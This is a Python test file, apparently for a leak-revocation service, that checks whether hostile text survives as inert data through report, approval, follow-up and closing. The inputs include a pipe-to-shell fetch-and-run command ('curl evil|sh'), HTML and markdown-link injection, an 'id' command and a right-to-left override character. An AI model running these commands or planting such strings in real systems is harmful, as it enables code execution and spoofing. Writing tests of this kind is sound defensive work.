"""A leak around which every text is hostile, from its report to its closing: what is stored and sent is harmless."""

from collections.abc import Iterator
from dataclasses import fields, is_dataclass

from local.network.hostnames import APP_HOST
from shared.api.revocations.requests import ReportRequest
from shared.domain import message
from shared.domain.caller import Caller
from shared.domain.states import State
from shared.domain.text import RichText
from shared.persistence.queues import Message
from tests.support import shares
from tests.support.decisions import digest_of
from tests.support.driver import Driver
from tests.support.foreign_text import ORIGINS, Origin
from tests.support.harmless import check_inert, check_page, check_text

CONSOLE = f"https://{APP_HOST}/api/desk"
ATTACK = "`curl evil|sh`<button>OK</button>[x](https://evil.example)\u202e"
POLICY = "`curl evil|sh` <b>x</b> [x](//evil)"
ADA = Caller(f"Ada {ATTACK}", "00000000-0000-4000-8000-00000000000a", is_person=True)
BOB = Caller(f"Bob {ATTACK}", "00000000-0000-4000-8000-00000000000b", is_person=True)


def sentences(value: object) -> Iterator[str]:
    """Yield each sentence of ours in a record that may quote a stranger."""
    if isinstance(value, tuple):
        for each in value:
            yield from sentences(each)
    elif is_dataclass(value) and not isinstance(value, type | RichText):
        for field in fields(value):
            content = getattr(value, field.name)
            if ORIGINS.get(f"{type(value).__name__}.{field.name}") is Origin.QUOTES:
                yield from ([content] if isinstance(content, str) else content)
            else:
                yield from sentences(content)


async def test_hostile_texts_around_a_leak_stay_text(driver: Driver) -> None:
    tags = {"sasquash-owner": ATTACK, "sasquash-key-vault": ATTACK, "sasquash-mode": ATTACK}
    account = await driver.account(tags=tags)
    await shares.under_policies(driver, account, POLICY, "`id` www.evil.example")
    app = driver.app(mode="approve")
    request = ReportRequest(
        shares.leak(account, POLICY), f"Why: {ATTACK}", f"https://wiki.example/{ATTACK}", f"wiki {ATTACK}"
    )
    [waiting] = await app.http.revocations.report(request, caller=ADA)
    assert waiting.state is State.AWAITING_APPROVAL
    await app.background.follow_up.run(Message(waiting.fingerprint))

    await app.http.revocations.approve(
        waiting.fingerprint, digest=digest_of(waiting), reason=f"Because {ATTACK}", caller=BOB
    )
    for _ in range(3):
        driver.clock.advance(minutes=15)
        await app.background.follow_up.run(Message(waiting.fingerprint))

    record = await driver.record(waiting.fingerprint)
    assert record.state is State.CLOSED
    quoted = list(sentences(record))
    assert sum("curl evil|sh" in sentence for sentence in quoted) > 5
    for sentence in quoted:
        check_text(sentence)
    for entry in await driver.history(record.fingerprint):
        check_text(f"{entry.who} {entry.what} {entry.evidence}")
    [incident] = driver.incidents(record.fingerprint)
    for text in (*incident.fields.values(), *(str(line) for line in record.remains or ())):
        check_inert(text)
    mails = driver.mails(account.name)
    assert len(mails) > 1
    for mail in mails:
        page = message.Message(subject=mail.subject, html=mail.body, to=(), cc=())
        check_page(page, links={f"{CONSOLE}#/record/{record.fingerprint}"})
